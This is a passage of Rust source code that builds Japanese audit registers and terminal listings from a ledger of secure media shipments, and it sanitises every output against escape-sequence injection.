//! The registers an auditor signs off (§2.2③, §1.2②, §2.4⑥), folded from the typed
//! events (`records::event`): the 移送記録簿 (one row per shipment), the 受領・検証・復号記録
//! (one row per receipt, verification, opening and check), the 媒体管理簿 (one row per
//! disc or stick) and the 廃棄記録 (one row per disposal) — see [`REGISTERS`]. One value
//! per cell (dates, times in the registry's zone, names, results 正常/異常 each in a
//! column of its own, so a spreadsheet sorts and filters them), corrections beside what
//! they correct. Exported as CSV (UTF-8 with BOM and CRLF, so Excel opens Japanese text
//! correctly) or JSON with the same Japanese column names.
//!
//! Also every other way the ledger is printed (`record list`, `show`, `due`). The
//! ledger is a file that whoever can write it may change with `sqlite3`: the chain
//! check detects that, but until someone runs it a row INSERTed with `ESC ] 0; … BEL`,
//! `ESC [ 2 J` or U+202E in its time, shipment or body would drive the terminal of
//! whoever lists it, or reach a spreadsheet (CWE-150, CWE-117; issue 13 finding 08).
//! So each output is made inert in one place, whole, by `untrusted::clean`: each line
//! ([`list_line`], [`show_lines`], [`due_line`]), each CSV cell ([`write_csv`]), each
//! string of a JSON output ([`write_json`]), not field by field.

use std::collections::BTreeMap;
use std::io::{self, Write};

use serde_json::Value;

use super::event::{Claimed, EventBody, Opened, Sealed, Shipped, Verification};
use super::{Event, EventKind};
use crate::untrusted::{clean, sanitize};

/// An event's kind as shown: an unknown one as `unknown(NAME)`, so it is seen, not
/// mistaken for a kind isou wrote. Cleaned with the line it is part of.
pub fn kind_label(e: &Event) -> String {
    match (&e.kind, &e.unknown_kind) {
        (EventKind::Unknown, Some(k)) => format!("unknown({})", sanitize(k)),
        (k, _) => k.as_str().to_string(),
    }
}

/// An event's time as people read it: `YYYY-MM-DD HH:MM` in the registry's time zone,
/// the zone named (`2026-12-04 03:07 JST`); the ledger keeps the UTC instant.
fn when(e: &Event) -> String {
    format!(
        "{} {}",
        crate::clock::local(&e.recorded_at),
        crate::clock::zone_label()
    )
}

/// An event's kind as a clerk reads it: the Japanese word and the stored name
/// (`検証 verified`), so the list reads in the manual's terms and the name `--json`
/// and `record correct` speak is still there. A kind without a Japanese word (one a
/// later isou added) is shown by its stored name.
pub fn kind_name(e: &Event) -> String {
    let ja = match e.kind {
        EventKind::Sealed => "封入",
        EventKind::Shipped => "発送",
        EventKind::Received => "受領",
        EventKind::Verified => "検証",
        EventKind::Opened => "復号",
        EventKind::KeySent => "鍵送付",
        EventKind::HandCarried => "持参",
        EventKind::Disposed => "廃棄",
        EventKind::Corrected => "訂正",
        EventKind::Checked => "確認(未認証)",
        EventKind::CheckedBeforeShipping => "発送前確認",
        EventKind::CheckedBySender => "送付元確認",
        EventKind::CheckedIncomplete => "確認(セット不完全)",
        EventKind::ReceiptIssued => "受領書発行",
        EventKind::Delivered => "到着確認",
        EventKind::Unknown => "種別不明",
    };
    if ja.is_empty() {
        kind_label(e)
    } else {
        format!("{ja} {}", kind_label(e))
    }
}

/// Who acted, as the event names them: the seal's `handler` (the 移送担当者 it was
/// sealed for), else `by` (who ran the command); a row that does not read as its kind
/// names no one (it is marked unreadable below the list).
fn actor_of(e: &Event) -> String {
    match e.typed() {
        Ok(EventBody::Sealed(b)) if !b.handler.is_empty() => b.handler,
        Ok(b) => b.by().to_string(),
        Err(_) => String::new(),
    }
}

/// The outcome of an event in a few words, for the list's last column: a check's
/// result (正常 / 異常), where a medium went, how it was shipped or disposed of.
fn outcome(e: &Event) -> String {
    let join = |parts: Vec<String>| {
        parts
            .into_iter()
            .filter(|p| !p.trim().is_empty())
            .collect::<Vec<_>>()
            .join(" ")
    };
    let labelled = |label: &str, v: &str| {
        if v.is_empty() {
            String::new()
        } else {
            format!("{label} {v}")
        }
    };
    let Ok(body) = e.typed() else {
        return crate::tr!("rec-list-outcome-unreadable");
    };
    match body {
        EventBody::Sealed(b) => join(vec![
            format!("→ {}", opt(&b.destination)),
            class_label(&b.class),
            b.medium_type,
        ]),
        // Tracking numbers as printed on the slip (`131-12-38385-2`); the registers
        // keep the stored digits.
        EventBody::Shipped(b) => join(vec![
            b.carrier,
            crate::i18n::tracking_number(&opt(&b.tracking_number)),
        ]),
        EventBody::KeySent(b) => join(vec![
            b.method,
            crate::i18n::tracking_number(&opt(&b.tracking_number)),
        ]),
        EventBody::HandCarried(b) => labelled("同行者", &b.attendant),
        EventBody::Received(v)
        | EventBody::Verified(v)
        | EventBody::CheckedBeforeShipping(v)
        | EventBody::CheckedBySender(v)
        | EventBody::CheckedIncomplete(v) => join(vec![
            result_word(v.valid, v.set_complete, v.problems).to_string(),
            labelled("送付元", &opt(&v.from)),
        ]),
        EventBody::Checked(c) => join(vec![
            result_word(c.valid, c.set_complete, c.problems).to_string(),
            labelled("送付元(未認証)", &opt(&c.claimed.from)),
        ]),
        EventBody::Opened(o) => labelled("→", &o.out),
        EventBody::Disposed(d) => join(vec![d.method, labelled("立会人", &opt(&d.witness))]),
        // From the catalogue (issue 17 red team finding 09: the hard-coded
        // "event 1 を訂正" read the same, half English, in either language).
        EventBody::Corrected(c) => crate::tr!(
            "rec-list-outcome-corrects",
            id = c.corrects.to_string(),
            note = c.note
        ),
        EventBody::ReceiptIssued(r) => labelled("受領書 →", &r.out),
        EventBody::Delivered(d) => labelled("到着確認 受領者鍵", &d.recipient_key),
    }
}

/// How wide `text` is on a terminal: East Asian wide characters (kanji, kana,
/// full-width forms) take two columns (`unicode-width`), so columns of Japanese names
/// line up.
fn display_width(text: &str) -> usize {
    unicode_width::UnicodeWidthStr::width(text)
}

/// `text` padded with spaces to `width` terminal columns.
fn pad(text: &str, width: usize) -> String {
    let w = display_width(text);
    format!("{text}{}", " ".repeat(width.saturating_sub(w)))
}

/// `text` cut to at most `width` terminal columns, ending in `…` when cut.
fn cut(text: &str, width: usize) -> String {
    if display_width(text) <= width {
        return text.to_string();
    }
    let mut out = String::new();
    let mut used = 0;
    for c in text.chars() {
        let w = unicode_width::UnicodeWidthChar::width(c).unwrap_or(0);
        if used + w + 1 > width {
            break;
        }
        out.push(c);
        used += w;
    }
    out.push('…');
    out
}

/// The widest a person's name is shown in `record list` (cut with `…`; in full in
/// `record show`).
const BY_WIDTH: usize = 16;

/// The widest the outcome is shown in `record list` (cut with `…`; in full in
/// `record show`).
const OUTCOME_WIDTH: usize = 44;

/// The cells of an event's row in the list: id, time (registry's zone, named), kind,
/// shipment, who, outcome; each from the ledger cleaned (`sanitize`) before it is
/// measured, so what is aligned is what is printed.
fn row_cells(e: &Event) -> [String; 6] {
    [
        e.id.to_string(),
        sanitize(&when(e)),
        kind_name(e),
        sanitize(&e.shipment),
        clean(&actor_of(e)),
        clean(&outcome(e)),
    ]
}

/// The header of the event table, in the current language (shown to a person only:
/// the exports keep their fixed Japanese columns, [`REGISTERS`]).
fn header() -> [String; 6] {
    [
        crate::tr!("rec-list-col-id"),
        crate::tr!("rec-list-col-time"),
        crate::tr!("rec-list-col-kind"),
        crate::tr!("rec-list-col-shipment"),
        crate::tr!("rec-list-col-by"),
        crate::tr!("rec-list-col-result"),
    ]
}

/// Lays out rows under [`header`], each column as wide as its widest cell in terminal
/// columns (ids right-aligned), two spaces between columns, no trailing spaces. Every
/// cell is cleaned (`untrusted::clean`) before it is measured; not the padded line,
/// whose runs of spaces the sanitiser would fold.
fn table(rows: Vec<[String; 6]>) -> Vec<String> {
    let header = header().map(|c| clean(&c));
    let rows: Vec<[String; 6]> = rows.into_iter().map(|r| r.map(|c| clean(&c))).collect();
    let mut widths = [0usize; 6];
    for r in std::iter::once(&header).chain(rows.iter()) {
        for (w, c) in widths.iter_mut().zip(r) {
            *w = (*w).max(display_width(c));
        }
    }
    std::iter::once(header)
        .chain(rows)
        .map(|r| {
            let mut line = String::new();
            for (i, (c, w)) in r.iter().zip(widths).enumerate() {
                if i > 0 {
                    line.push_str("  ");
                }
                if i == 0 {
                    line.push_str(&format!("{}{c}", " ".repeat(w - display_width(c))));
                } else {
                    line.push_str(&pad(c, w));
                }
            }
            line.trim_end().to_string()
        })
        .collect()
}

/// The lines of `record list`: a header, then a row per event (id, time in the
/// registry's zone, kind in Japanese and English, shipment, who, outcome), columns
/// aligned by terminal width (issue 16: the raw JSON bodies, cut at the terminal's
/// width, were unreadable). A long name or outcome is cut with `…`: `record show`
/// has it in full.
pub fn list_lines(events: &[Event]) -> Vec<String> {
    let mut lines = table(
        events
            .iter()
            .map(|e| {
                let mut r = row_cells(e);
                r[4] = cut(&r[4], BY_WIDTH);
                r[5] = cut(&r[5], OUTCOME_WIDTH);
                r
            })
            .collect(),
    );
    // Shown, marked: a row of a known kind whose body has the wrong shape is not
    // hidden (`record check` names it too).
    for e in events.iter().filter(|e| e.kind != EventKind::Unknown) {
        if let Err(u) = e.typed() {
            lines.push(crate::tr!(
                "rec-list-unreadable",
                what = clean(&u.to_string())
            ));
        }
    }
    lines
}

/// How many terminal columns a line of `record show`'s facts holds before it is
/// wrapped.
const SHOW_WIDTH: usize = 100;

/// An event's facts as (path, value) pairs, nested objects and lists flattened to
/// dotted paths (`summary.signer`, `choices.1.flag`), so no JSON is printed; a list of
/// plain values is one value, comma-separated; null, an empty list or object is `(none)`. Each value as a person
/// reads it where isou knows the fact (`fields::value`: yes/no, sizes, tracking numbers
/// grouped, instants in the registry's zone), else as stored.
fn facts(prefix: &str, v: &Value, out: &mut Vec<(String, String)>) {
    let name = |k: &str| {
        if prefix.is_empty() {
            k.to_string()
        } else {
            format!("{prefix}.{k}")
        }
    };
    match v {
        Value::Object(o) if !o.is_empty() => {
            for (k, v) in o {
                facts(&name(k), v, out);
            }
        }
        Value::Array(a) if a.iter().any(|v| v.is_object() || v.is_array()) => {
            for (i, v) in a.iter().enumerate() {
                facts(&name(&(i + 1).to_string()), v, out);
            }
        }
        Value::Array(a) if a.is_empty() => {
            out.push((prefix.to_string(), crate::tr!("rec-show-none")))
        }
        Value::Object(_) => out.push((prefix.to_string(), crate::tr!("rec-show-none"))),
        Value::Array(a) => out.push((
            prefix.to_string(),
            a.iter()
                .map(|v| match v {
                    Value::String(t) => t.clone(),
                    Value::Null => String::new(),
                    other => other.to_string(),
                })
                .collect::<Vec<_>>()
                .join(", "),
        )),
        Value::String(t) => out.push((
            prefix.to_string(),
            super::fields::value(prefix, v).unwrap_or_else(|| t.clone()),
        )),
        other => out.push((
            prefix.to_string(),
            super::fields::value(prefix, other).unwrap_or_else(|| other.to_string()),
        )),
    }
}

/// The lines of `record show` for one shipment's events: the event table as `record
/// list` prints it but nothing cut, then each event under its heading (`event ID
/// TIME KIND`, the id `record correct` takes) with each fact of its body on a line of
/// its own, names aligned, values in full: wrapped, never cut, so what a correction
/// would correct is all seen (issue 15 item 11). Each fact is cleaned whole before it
/// is wrapped, so a secret or an escape sequence cannot be split past the cleaner.
pub fn show_lines(events: &[Event]) -> Vec<String> {
    let mut out = table(events.iter().map(row_cells).collect());
    for e in events {
        out.push(String::new());
        wrap_into(
            &mut out,
            &clean(&crate::tr!(
                "rec-show-event",
                id = e.id.to_string(),
                when = when(e),
                kind = kind_name(e)
            )),
            "",
            "  ",
        );
        let mut all = Vec::new();
        facts("", &e.body, &mut all);
        // In the order a clerk reads them (the result, who, where to, how, what), not
        // the stored keys' alphabetical one; facts isou does not name last.
        all.sort_by_key(|(k, _)| super::fields::rank(k));
        let all: Vec<(String, String)> = all
            .into_iter()
            .map(|(k, v)| {
                // Each name in the reader's language; one isou does not know, as
                // stored (`fields::label`).
                let k = if k.is_empty() {
                    crate::tr!("rec-show-body")
                } else {
                    super::fields::label(&k)
                };
                (clean(&k), clean(&v))
            })
            .collect();
        let width = all.iter().map(|(k, _)| display_width(k)).max().unwrap_or(0);
        // Continuation lines start under the value, so the names stay a column.
        let under = " ".repeat(4 + width + 2);
        for (k, v) in &all {
            wrap_into(&mut out, &format!("{}  {v}", pad(k, width)), "    ", &under);
        }
    }
    out
}

/// Appends `text` (already clean) to `out` as lines of at most [`SHOW_WIDTH`]
/// terminal columns, the first after `indent`, continuation lines after `next`; broken after a
/// space or comma in the line's second half when there is one, else where it is full.
/// Every character is kept, but the trailing spaces of the last line.
fn wrap_into(out: &mut Vec<String>, text: &str, indent: &str, next: &str) {
    let chars: Vec<char> = text.chars().collect();
    let mut rest = &chars[..];
    let mut pad = indent.to_string();
    let cw = |c: &char| unicode_width::UnicodeWidthChar::width(*c).unwrap_or(0);
    loop {
        // How many characters fit in the line's room (at least one).
        let room = SHOW_WIDTH
            .saturating_sub(display_width(&pad))
            .max(SHOW_WIDTH / 3);
        let mut fit = 0;
        let mut used = 0;
        let mut half = 0;
        for c in rest {
            if used + cw(c) > room {
                break;
            }
            used += cw(c);
            fit += 1;
            if used <= room / 2 {
                half = fit;
            }
        }
        let fit = fit.max(1);
        let take = if fit >= rest.len() {
            rest.len()
        } else {
            rest[half..fit]
                .iter()
                .rposition(|c| matches!(c, ' ' | ','))
                .map_or(fit, |i| half + i + 1)
        };
        let line = format!("{pad}{}", rest[..take].iter().collect::<String>());
        rest = &rest[take..];
        // The last piece without trailing spaces (an empty value's line); a break
        // after a space keeps that space, so joining the lines gives the text back.
        out.push(if rest.is_empty() {
            line.trim_end().to_string()
        } else {
            line
        });
        if rest.is_empty() {
            break;
        }
        pad = next.to_string();
    }
}

/// A line of `record due`: a row of [`due`].
pub fn due_line(m: &BTreeMap<&'static str, String>) -> String {
    let f = |k: &str| sanitize(m.get(k).map(String::as_str).unwrap_or(""));
    clean(&crate::tr!(
        "rec-due-line",
        medium = f("媒体ID"),
        form = f("資料の形態"),
        until = f("保管期限")
    ))
}

/// `v` with every string in it, keys and values, cleaned.
fn inert(v: Value) -> Value {
    match v {
        Value::String(s) => Value::String(clean(&s)),
        Value::Array(a) => Value::Array(a.into_iter().map(inert).collect()),
        Value::Object(o) => {
            Value::Object(o.into_iter().map(|(k, v)| (clean(&k), inert(v))).collect())
        }
        other => other,
    }
}

/// Writes rows or events as pretty JSON and a newline, every string in it cleaned
/// (JSON escapes control characters, but not U+202E or the other invisible ones).
pub fn write_json<W: Write, T: serde::Serialize + ?Sized>(mut out: W, rows: &T) -> io::Result<()> {
    let v = serde_json::to_value(rows).map_err(io::Error::other)?;
    serde_json::to_writer_pretty(&mut out, &inert(v)).map_err(io::Error::other)?;
    out.write_all(b"\n")?;
    out.flush()
}

/// A register row: its cells by column name (the columns of its register, in order,
/// are the register's `columns`).
pub type Row = BTreeMap<&'static str, String>;

/// One register `record export --register NAME` writes: its name on the command line,
/// its title (the sheet's name in a workbook), its columns in order and how its rows
/// are folded from the events. Every writer (CSV, JSON, a workbook) takes the same
/// rows, so a register reads the same in each.
///
/// Titles and columns are the manual's Japanese register terms, fixed, not from the
/// message catalogue (issue 17): an export is a document an auditor files and machine
/// data a program reads, so it must be the same whoever made it, in whatever language
/// their isou speaks; JSON keys are never localised either.
pub struct Register {
    /// The name `--register` takes.
    pub name: &'static str,
    /// The register's Japanese title (§2.2③, §1.2②, §2.4⑥).
    pub title: &'static str,
    /// Its columns, in order.
    pub columns: &'static [&'static str],
    /// Its rows, folded from the ledger's events (in ledger order).
    pub rows: fn(&[Event]) -> Vec<Row>,
}

// By name: a command line holds the register it chose (`record export --register`).
impl std::fmt::Debug for Register {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Register")
            .field("name", &self.name)
            .finish_non_exhaustive()
    }
}

/// Every register, in the order a workbook shows them.
pub const REGISTERS: &[Register] = &[
    Register {
        name: "transport",
        title: "移送記録簿",
        columns: COLUMNS,
        rows: transport_register,
    },
    Register {
        name: "checks",
        title: "受領・検証・復号記録",
        columns: CHECK_COLUMNS,
        rows: check_register,
    },
    Register {
        name: "media",
        title: "媒体管理簿",
        columns: MEDIA_COLUMNS,
        rows: media_register,
    },
    Register {
        name: "disposal",
        title: "廃棄記録",
        columns: DISPOSAL_COLUMNS,
        rows: disposal_log,
    },
];

/// The register `--register NAME` names.
pub fn register(name: &str) -> Option<&'static Register> {
    REGISTERS.iter().find(|r| r.name == name)
}

/// What a column holds, for a writer that types its cells (a workbook's date cells).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ColumnType {
    /// A date, `YYYY-MM-DD`, in the registry's time zone.
    Date,
    /// A time of day, `HH:MM`, in the registry's time zone (the title names the zone).
    Time,
    /// A whole number.
    Count,
    /// Text.
    Text,
}

/// Columns holding a date (`YYYY-MM-DD`).
const DATE_COLUMNS: &[&str] = &[
    "発送日",
    "鍵の送付日",
    "受領日",
    "到着確認",
    "廃棄日",
    "保管期限",
    "利用期間終了日",
    "作成・受領日",
    "日付",
];

/// Columns holding a whole number.
const COUNT_COLUMNS: &[&str] = &["媒体数", "検証回数", "復号回数", "記録番号", "ファイル数"];

/// What `column` holds: dates and times each in their own columns (issue 16: a cell
/// holding 「日時 受領者 結果」 defeats a spreadsheet's sort and filter).
pub fn column_type(column: &str) -> ColumnType {
    if DATE_COLUMNS.contains(&column) {
        ColumnType::Date
    } else if column.ends_with("時刻") {
        ColumnType::Time
    } else if COUNT_COLUMNS.contains(&column) {
        ColumnType::Count
    } else {
        ColumnType::Text
    }
}

/// Column headers of the 移送記録簿 (§2.2③), in order: one row per shipment, one
/// value per cell. Every check and opening is a row of its own in the 受領・検証・復号記録
/// ([`CHECK_COLUMNS`]); this register counts them and keeps the receipt.
pub const COLUMNS: &[&str] = &[
    "移送ID",
    "区分",
    "移送担当者",
    "移送元",
    "移送先",
    "受領者",
    "受領者鍵指紋",
    "情報の区分",
    "利用責任者",
    "申出番号・応諾番号",
    "利用期間終了日",
    "資料の形態",
    "媒体数",
    "移送手段",
    "追跡番号",
    "発送日",
    "同行者",
    "封筒表示確認",
    "暗号化方式",
    "鍵の送付方法",
    "鍵の追跡番号",
    "鍵の送付日",
    "マニフェストSHA-256",
    "署名鍵",
    "受領日",
    "受領時刻",
    "受領担当者",
    "受領時の検証結果",
    "到着確認",
    "検証回数",
    "復号回数",
    "廃棄日",
    "廃棄方法",
    "立会人",
    "保管期限",
    "訂正",
    "備考",
];

/// Columns of the 受領・検証・復号記録: one row per receipt, verification, opening and
/// check, so none overwrites another (issue 16).
pub const CHECK_COLUMNS: &[&str] = &[
    "記録番号",
    "移送ID",
    "記載上の移送ID",
    "種別",
    "日付",
    "時刻",
    "担当者",
    "結果",
    "送付元の確認",
    "署名鍵",
    "移送元",
    "情報の区分",
    "封筒の追跡番号",
    "出力先",
    "ファイル数",
    "訂正",
    "備考",
];

/// Columns of the 媒体管理簿 (§1.2②: the list of portable media held, with the dates
/// they were received or created and disposed of): one row per disc or stick.
pub const MEDIA_COLUMNS: &[&str] = &[
    "媒体ID",
    "移送ID",
    "資料の形態",
    "区分",
    "作成・受領日",
    "マニフェストSHA-256",
    "保管期限",
    "廃棄日",
    "廃棄方法",
    "訂正",
    "備考",
];

/// Columns of the 廃棄記録 (§2.4⑥: a record of every disposal; ⑦ the contractor and
/// its certificate).
pub const DISPOSAL_COLUMNS: &[&str] = &[
    "記録番号",
    "移送ID",
    "資料の形態",
    "媒体数",
    "情報の区分",
    "廃棄日",
    "廃棄方法",
    "委託先",
    "廃棄証明書番号",
    "立会人",
    "実施者",
    "訂正",
    "備考",
];

/// A class as the registers word it, one word on both sides: `identifiable`,
/// `非匿名化` or the bag-info label `identifiable (非匿名化)` → 非匿名化; the same for
/// 匿名化; other text as it is (shown, not guessed).
fn class_label(c: &str) -> String {
    match c.parse::<crate::media::InfoClass>() {
        Ok(crate::media::InfoClass::Identifiable) => "非匿名化".into(),
        Ok(crate::media::InfoClass::Anonymized) => "匿名化".into(),
        Err(_) => c.into(),
    }
}

/// A check's result in the registers' one vocabulary: 正常, 異常, or 未了 for a set
/// checked with a volume left out and nothing wrong on those given (not 異常: nothing
/// failed, the check is not finished).
fn result_word(valid: bool, set_complete: bool, problems: u64) -> &'static str {
    if valid {
        "正常"
    } else if !set_complete && problems == 0 {
        "未了"
    } else {
        "異常"
    }
}

/// The kind of an event as the registers name it (a correction names what it
/// corrects by this).
fn kind_ja(kind: EventKind) -> &'static str {
    match kind {
        EventKind::Sealed => "封緘",
        EventKind::Shipped => "発送",
        EventKind::KeySent => "鍵送付",
        EventKind::HandCarried => "持参",
        EventKind::Received => "受領",
        EventKind::Verified => "検証",
        EventKind::Opened => "復号",
        EventKind::Disposed => "廃棄",
        EventKind::Corrected => "訂正",
        EventKind::Checked => "確認(未認証)",
        EventKind::CheckedBeforeShipping => "発送前確認",
        EventKind::CheckedBySender => "発送後確認",
        EventKind::CheckedIncomplete => "確認(セット不完全)",
        EventKind::ReceiptIssued => "受領書発行",
        EventKind::Delivered => "到着確認",
        EventKind::Unknown => "種別不明",
    }
}

/// `USBメモリ ×3` → (`USBメモリ`, 3): 資料の形態 and 媒体数 in cells of their own.
fn split_form(medium_type: &str) -> (String, Option<usize>) {
    match medium_type.rsplit_once(" ×") {
        Some((form, n)) => match n.parse::<usize>() {
            Ok(n) => (form.to_string(), Some(n)),
            Err(_) => (medium_type.to_string(), None),
        },
        None => (medium_type.to_string(), None),
    }
}

/// The date of a recorded instant in the registry's zone (`YYYY-MM-DD`).
fn date_of(e: &Event) -> String {
    crate::clock::local_date(&e.recorded_at)
}

/// The time of day of a recorded instant in the registry's zone (`HH:MM`); the
/// column's title names the zone.
fn time_of(e: &Event) -> String {
    let local = crate::clock::local(&e.recorded_at);
    match local.split_once(' ') {
        Some((_, time)) => time.to_string(),
        None => String::new(),
    }
}

/// An optional text as a cell.
fn opt(v: &Option<String>) -> String {
    v.clone().unwrap_or_default()
}

/// The mark of an event appended by `record recover` after it happened (its body's
/// `recorded_late`, which the ledger adds around the typed body): every register shows
/// it, so an auditor sees which entries were not written when they happened, and when
/// they were.
pub fn late_note(e: &Event) -> Option<String> {
    let l = e.body.get("recorded_late")?;
    let happened = l.get("happened_at").and_then(Value::as_str).unwrap_or("");
    Some(format!(
        "記録遅延: {} (発生 {}, 記録 {})",
        e.kind.as_str(),
        crate::clock::local(happened),
        crate::clock::local(&e.recorded_at)
    ))
}

/// Adds a remark to a row's `備考`, after those already there.
fn add_note(r: &mut Row, note: String) {
    let cell = r.entry("備考").or_default();
    if cell.contains(&note) {
        return;
    }
    if !cell.is_empty() {
        cell.push_str(" / ");
    }
    cell.push_str(&note);
}

/// Sets a cell when `v` says something (a later event that does not know a fact does
/// not blank what an earlier one recorded).
fn put(r: &mut Row, k: &'static str, v: String) {
    if !v.is_empty() {
        r.insert(k, v);
    }
}

/// An empty row of `columns`.
fn blank(columns: &[&'static str]) -> Row {
    columns.iter().map(|c| (*c, String::new())).collect()
}

/// The events with their typed bodies, read once. A body that does not read as its
/// kind (a row written outside isou) is `None`, and the registers say so in 備考.
struct Read<'a> {
    e: &'a Event,
    body: Option<EventBody>,
}

fn read(events: &[Event]) -> Vec<Read<'_>> {
    events
        .iter()
        .map(|e| Read {
            e,
            body: e.typed().ok(),
        })
        .collect()
}

/// The remark for an event whose body could not be read.
fn unreadable_note(e: &Event) -> String {
    format!(
        "読めない記録: 記録{} ({}) は記録簿に反映していない",
        e.id,
        kind_label(e)
    )
}

/// The corrections (`record correct`) of each event, by the corrected event's id:
/// each names its date, person and note, and its own record number (§2.2③: records
/// are corrected by a new entry beside what it corrects, never overwritten).
fn corrections(reads: &[Read]) -> BTreeMap<i64, Vec<String>> {
    let mut out: BTreeMap<i64, Vec<String>> = BTreeMap::new();
    for r in reads {
        if let Some(EventBody::Corrected(c)) = &r.body {
            out.entry(c.corrects).or_default().push(format!(
                "{} {}: {} (記録{})",
                date_of(r.e),
                c.by,
                c.note,
                r.e.id
            ));
        }
    }
    out
}

/// The 訂正 cell for the events `ids`: their corrections, in ledger order, each
/// prefixed by the event it corrects when `named` (a row that folds several events).
fn correction_cell(
    corr: &BTreeMap<i64, Vec<String>>,
    targets: &[(i64, EventKind)],
    named: bool,
) -> String {
    let mut parts = Vec::new();
    for (id, kind) in targets {
        for c in corr.get(id).into_iter().flatten() {
            if named {
                parts.push(format!("記録{id}({}) {c}", kind_ja(*kind)));
            } else {
                parts.push(c.clone());
            }
        }
    }
    parts.join(" / ")
}

/// What a recipient's authenticated event (received, verified, an incomplete set's
/// check, an opening from a pinned sender) says of the shipment.
struct Stated<'a> {
    from: Option<&'a str>,
    /// The policy contact whose key signed it: the authenticated sender.
    sender_contact: Option<&'a str>,
    destination: Option<&'a str>,
    medium_type: Option<&'a str>,
    tracking_number: Option<&'a str>,
    signer: &'a str,
    class: &'a str,
    class_stated: bool,
    class_claimed: Option<&'a str>,
}

impl<'a> Stated<'a> {
    fn of_verification(v: &'a Verification) -> Stated<'a> {
        Stated {
            from: v.from.as_deref(),
            sender_contact: v.sender_contact.as_deref(),
            destination: v.destination.as_deref(),
            medium_type: v.medium_type.as_deref(),
            tracking_number: v.tracking_number.as_deref(),
            signer: &v.signer,
            class: &v.class,
            class_stated: v.class_stated,
            class_claimed: v.class_claimed.as_deref(),
        }
    }

    fn of_opened(o: &'a Opened) -> Stated<'a> {
        Stated {
            from: o.from.as_deref(),
            sender_contact: o.sender_contact.as_deref(),
            destination: o.destination.as_deref(),
            medium_type: o.medium_type.as_deref(),
            tracking_number: o.tracking_number.as_deref(),
            signer: &o.signer,
            class: &o.class,
            class_stated: o.class_stated,
            class_claimed: o.class_claimed.as_deref(),
        }
    }

    /// 移送元: the policy contact whose key signed the medium, when the key is a
    /// contact's; else the medium's signed Source-Organization. A keyed partner's claim
    /// to be another institution is never the register's word for who sent it (issue
    /// 16 red team finding 15, CWE-345).
    fn sender(&self) -> Option<&'a str> {
        self.sender_contact.or(self.from)
    }

    /// A remark when the medium's signed Source-Organization is not the contact whose
    /// key signed it.
    fn claim_note(&self) -> Option<String> {
        match (self.sender_contact, self.from) {
            (Some(c), Some(f)) if !f.is_empty() && f != c => Some(format!(
                "媒体上の移送元の記載 「{f}」 は署名した連絡先 「{c}」 と異なる"
            )),
            _ => None,
        }
    }

    /// The class as the registers word it: the stated one, else 非匿名化 (the safe
    /// default, issue 14 finding 05) and a remark saying the sender did not state it.
    fn class(&self) -> (String, Option<String>) {
        let stated = self.class_stated && self.class.parse::<crate::media::InfoClass>().is_ok();
        if stated {
            return (class_label(self.class), None);
        }
        let claimed = match self.class_claimed {
            Some(c) if !c.is_empty() => Some(c.to_string()),
            // Ledgers before issue 14 recorded an unknown class as `unrecognised: …`.
            _ => self
                .class
                .strip_prefix("unrecognised: ")
                .map(str::to_string)
                .or_else(|| {
                    (!self.class.is_empty() && self.class != "identifiable")
                        .then(|| self.class.to_string())
                }),
        };
        let note = match claimed {
            Some(c) => {
                format!("情報の区分: 送付元の記載 「{c}」 は区分でないため非匿名化として扱う")
            }
            None => "情報の区分: 送付元の記載なし、非匿名化として扱う".to_string(),
        };
        ("非匿名化".into(), Some(note))
    }

    /// Folds these facts into a transport row, each only when stated. A class the
    /// sender stated (here or in another event of the shipment) is not overridden by
    /// the default.
    fn fold_into(&self, r: &mut Row) {
        if let Some(n) = self.claim_note() {
            if !r["備考"].contains(&n) {
                add_note(r, n);
            }
        }
        for (k, v) in [
            ("移送元", self.sender()),
            ("移送先", self.destination),
            ("追跡番号", self.tracking_number),
            ("署名鍵", Some(self.signer)),
        ] {
            put(r, k, v.unwrap_or_default().to_string());
        }
        if let Some(t) = self.medium_type {
            let (form, n) = split_form(t);
            put(r, "資料の形態", form);
            put(r, "媒体数", n.unwrap_or(1).to_string());
        }
        // The class the sender stated, else 非匿名化 and why (this event's own word:
        // an event that says the class was not stated is never hidden behind another's).
        let (class, note) = self.class();
        r.insert("情報の区分", class);
        if let Some(note) = note {
            add_note(r, note);
        }
    }
}

/// The 備考 of one `record ship` event, in one place (issue 14): every explicit choice
/// and every replacement it recorded, so the register never shows only the last carrier
/// or number while the signed medium says another (§2.2③⑥⑧⑨).
fn ship_notes(b: &Shipped) -> Vec<String> {
    let mut notes = Vec::new();
    let date = &b.date;
    let carrier = &b.carrier;
    // Events before issue 14's change named only a tracked carrier replaced by an
    // untracked one.
    let replaced = b
        .replaces_carrier
        .clone()
        .or_else(|| b.replaces_tracked_carrier.clone())
        .unwrap_or_default();
    if !replaced.is_empty() {
        notes.push(format!(
            "移送手段の変更 {replaced} → {carrier} ({date} 発送記録)"
        ));
    }
    if b.untracked_carrier {
        notes.push(format!(
            "明示的な選択 追跡なしの手段 {carrier} (§2.2⑥ 追跡サービス付きの手段)"
        ));
    }
    let old_number = opt(&b.replaces_tracking_number);
    if !old_number.is_empty() {
        let number = b
            .tracking_number
            .clone()
            .filter(|n| !n.is_empty())
            .unwrap_or_else(|| "なし".into());
        notes.push(format!(
            "追跡番号の変更 {old_number} → {number} ({date} 発送記録)"
        ));
    }
    let sealed = opt(&b.sealed_tracking_number);
    if !sealed.is_empty() {
        notes.push(format!("媒体に署名された追跡番号 {sealed} と異なる"));
    }
    if b.attendance_acknowledged {
        notes.push("持参: 立会いの規則を確認済".into());
    }
    notes
}

/// The fingerprints of a seal's recipients (`SHA256:…` of each key): the recorded
/// ones, else made from the recorded keys (ledgers before schema 2), so the column
/// never holds a whole key.
fn recipient_fingerprints(b: &Sealed) -> Vec<String> {
    if !b.recipient_fingerprints.is_empty() {
        return b.recipient_fingerprints.clone();
    }
    b.recipients
        .iter()
        .filter_map(|r| super::event::recipient_fingerprint(r))
        .collect()
}

/// A shipment's row of the 移送記録簿 while it is folded.
struct Fold {
    row: Row,
    /// Its events (id and kind), whose corrections the row shows.
    events: Vec<(i64, EventKind)>,
    /// Verifications and openings recorded.
    verified: usize,
    opened: usize,
    /// A receipt (received, or an unauthenticated check) has filled the 受領 columns.
    received: bool,
}

/// Folds events into 移送記録簿 rows, one per shipment, in order of first appearance.
pub fn transport_register(events: &[Event]) -> Vec<Row> {
    let reads = read(events);
    let corr = corrections(&reads);
    let mut order: Vec<String> = Vec::new();
